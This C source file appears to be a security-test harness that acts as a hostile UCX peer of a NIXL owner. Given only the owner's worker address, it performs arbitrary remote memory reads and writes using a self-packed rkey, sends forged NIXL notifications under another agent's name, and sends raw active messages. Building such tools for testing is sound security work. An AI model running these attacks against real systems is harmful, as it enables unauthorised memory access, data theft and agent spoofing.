/* A hostile UCX peer of a NIXL owner. It knows the owner's UCX worker
 * address (which carries transport names and IP/port, nothing secret) and
 * nothing else: no NIXL metadata, no descriptor, no rkey of the owner.
 *
 *   nixl_rogue WORKER_ADDR_FILE CMD [CMD...]
 *     get:ADDR:LEN        ucp_get_nbx of LEN bytes at the owner's ADDR (hex)
 *     put:ADDR:TEXT       ucp_put_nbx of TEXT (and its NUL) to the owner's ADDR
 *     notif:NAME:MSG      a NIXL notification (AM id 0, nixlSerDes "name"/"msg")
 *     raw:TEXT            AM id 0 with TEXT as its whole payload
 *     sleep:MS
 *
 * The rkey used for get/put is packed from the rogue's own memory and
 * unpacked on the endpoint to the owner. One line per command on stdout.
 * Every wait is bounded (5 s). Exit status 0 once the endpoint exists. */
#define _GNU_SOURCE
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <ucp/api/ucp.h>

static ucp_worker_h worker;
static ucs_status_t ep_error = UCS_OK;

static void on_ep_error(void *arg, ucp_ep_h ep, ucs_status_t status) {
    (void)arg;
    (void)ep;
    ep_error = status;
}

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec * 1e-9;
}

/* Waits for a request (or a status pointer) up to 5 s. */
static ucs_status_t wait_req(void *req) {
    if (req == NULL) return UCS_OK;
    if (UCS_PTR_IS_ERR(req)) return UCS_PTR_STATUS(req);
    double t_end = now() + 5.0;
    ucs_status_t st;
    while ((st = ucp_request_check_status(req)) == UCS_INPROGRESS && now() < t_end)
        ucp_worker_progress(worker);
    if (st == UCS_INPROGRESS) {
        ucp_request_cancel(worker, req);
        return UCS_ERR_TIMED_OUT;
    }
    ucp_request_free(req);
    return st;
}

static ucs_status_t flush_ep(ucp_ep_h ep) {
    ucp_request_param_t p = {0};
    return wait_req(ucp_ep_flush_nbx(ep, &p));
}

static void print_bytes(const unsigned char *b, size_t n) {
    printf(" hex=");
    for (size_t i = 0; i < n; i++) printf("%02x", b[i]);
    printf(" text=\"");
    for (size_t i = 0; i < n && b[i]; i++) putchar(b[i] >= 32 && b[i] < 127 ? b[i] : '.');
    printf("\"");
}

static size_t serdes_str(char *out, const char *tag, const char *s) {
    size_t n = 0, len = strlen(s);
    uint64_t le = len; /* x86-64: little-endian, as nixlSerDes writes a size_t */
    memcpy(out + n, tag, strlen(tag));
    n += strlen(tag);
    memcpy(out + n, &le, 8);
    n += 8;
    memcpy(out + n, s, len);
    n += len;
    out[n++] = '|';
    return n;
}

static ucs_status_t send_am0(ucp_ep_h ep, const void *buf, size_t len) {
    ucp_request_param_t p = {0};
    p.op_attr_mask = UCP_OP_ATTR_FIELD_FLAGS;
    p.flags = UCP_AM_SEND_FLAG_EAGER;
    ucs_status_t st = wait_req(ucp_am_send_nbx(ep, 0, NULL, 0, buf, len, &p));
    return st == UCS_OK ? flush_ep(ep) : st;
}

int main(int argc, char **argv) {
    if (argc < 3) {
        fprintf(stderr, "usage: %s WORKER_ADDR_FILE CMD...\n", argv[0]);
        return 2;
    }
    static unsigned char addr_buf[65536];
    FILE *f = fopen(argv[1], "rb");
    if (!f) {
        perror(argv[1]);
        return 2;
    }
    size_t addr_len = fread(addr_buf, 1, sizeof(addr_buf), f);
    fclose(f);

    ucp_config_t *cfg;
    ucp_context_h ctx;
    if (ucp_config_read(NULL, NULL, &cfg) != UCS_OK) return 2;
    ucp_params_t params = {0};
    params.field_mask = UCP_PARAM_FIELD_FEATURES;
    params.features = UCP_FEATURE_RMA | UCP_FEATURE_AM;
    if (ucp_init(&params, cfg, &ctx) != UCS_OK) return 2;
    ucp_config_release(cfg);
    ucp_worker_params_t wp = {0};
    wp.field_mask = UCP_WORKER_PARAM_FIELD_THREAD_MODE;
    wp.thread_mode = UCS_THREAD_MODE_SINGLE;
    if (ucp_worker_create(ctx, &wp, &worker) != UCS_OK) return 2;

    printf("rogue: ucx %s\n", ucp_get_version_string());
    ucp_ep_params_t ep_params = {0};
    ep_params.field_mask = UCP_EP_PARAM_FIELD_REMOTE_ADDRESS | UCP_EP_PARAM_FIELD_ERR_HANDLING_MODE |
                           UCP_EP_PARAM_FIELD_ERR_HANDLER;
    ep_params.address = (const ucp_address_t *)addr_buf;
    ep_params.err_mode = UCP_ERR_HANDLING_MODE_PEER;
    ep_params.err_handler.cb = on_ep_error;
    ucp_ep_h ep;
    ucs_status_t st = ucp_ep_create(worker, &ep_params, &ep);
    if (st != UCS_OK) {
        printf("rogue: ucp_ep_create to the owner's worker address (%zu bytes): %s\n", addr_len,
               ucs_status_string(st));
        return 2;
    }
    st = flush_ep(ep); /* completes the wireup */
    printf("rogue: endpoint to the owner's worker address (%zu bytes): %s\n", addr_len, ucs_status_string(st));

    /* The rogue's own memory, and an rkey packed from it: nothing of the owner's. */
    static unsigned char local[65536];
    ucp_mem_map_params_t mp = {0};
    mp.field_mask = UCP_MEM_MAP_PARAM_FIELD_ADDRESS | UCP_MEM_MAP_PARAM_FIELD_LENGTH;
    mp.address = local;
    mp.length = sizeof(local);
    ucp_mem_h memh;
    void *rkey_buf;
    size_t rkey_len;
    ucp_rkey_h rkey;
    if ((st = ucp_mem_map(ctx, &mp, &memh)) != UCS_OK || (st = ucp_rkey_pack(ctx, memh, &rkey_buf, &rkey_len)) != UCS_OK ||
        (st = ucp_ep_rkey_unpack(ep, rkey_buf, &rkey)) != UCS_OK) {
        printf("rogue: self-packed rkey: %s\n", ucs_status_string(st));
        return 2;
    }
    printf("rogue: rkey packed from the rogue's own buffer (%zu bytes) and unpacked on the endpoint\n", rkey_len);
    fflush(stdout);

    for (int i = 2; i < argc; i++) {
        char *cmd = argv[i];
        ucp_request_param_t p = {0};
        if (!strncmp(cmd, "get:", 4)) {
            char *end;
            uint64_t at = strtoull(cmd + 4, &end, 16);
            size_t len = strtoull(end + 1, NULL, 0);
            if (len > sizeof(local)) len = sizeof(local);
            memset(local, 0, len);
            st = wait_req(ucp_get_nbx(ep, local, len, at, rkey, &p));
            if (st == UCS_OK) st = flush_ep(ep);
            printf("rogue: get 0x%llx len %zu: %s", (unsigned long long)at, len, ucs_status_string(st));
            if (st == UCS_OK) print_bytes(local, len);
            if (ep_error != UCS_OK) printf(" (endpoint error: %s)", ucs_status_string(ep_error));
            printf("\n");
        } else if (!strncmp(cmd, "put:", 4)) {
            char *end;
            uint64_t at = strtoull(cmd + 4, &end, 16);
            const char *text = end + 1;
            size_t len = strlen(text) + 1;
            memcpy(local, text, len);
            st = wait_req(ucp_put_nbx(ep, local, len, at, rkey, &p));
            if (st == UCS_OK) st = flush_ep(ep);
            printf("rogue: put 0x%llx \"%s\": %s\n", (unsigned long long)at, text, ucs_status_string(st));
        } else if (!strncmp(cmd, "notif:", 6)) {
            char *name = cmd + 6, *msg = strchr(name, ':');
            if (!msg) continue;
            *msg++ = '\0';
            char buf[4096];
            size_t n = 0;
            memcpy(buf, "nixlSerDes|", 11);
            n = 11;
            n += serdes_str(buf + n, "name", name);
            n += serdes_str(buf + n, "msg", msg);
            st = send_am0(ep, buf, n);
            printf("rogue: notification as agent \"%s\" with \"%s\" (AM id 0, %zu bytes): %s\n", name, msg, n,
                   ucs_status_string(st));
        } else if (!strncmp(cmd, "raw:", 4)) {
            st = send_am0(ep, cmd + 4, strlen(cmd + 4));
            printf("rogue: AM id 0 with payload \"%s\": %s\n", cmd + 4, ucs_status_string(st));
        } else if (!strncmp(cmd, "sleep:", 6)) {
            double t_end = now() + atoi(cmd + 6) / 1000.0;
            while (now() < t_end) ucp_worker_progress(worker);
        }
        fflush(stdout);
    }
    /* Not torn down (the owner may be gone, and UCX's own exit-time cleanup
     * with a live endpoint is not what is tested here): leave at once. */
    fflush(stdout);
    _exit(0);
}
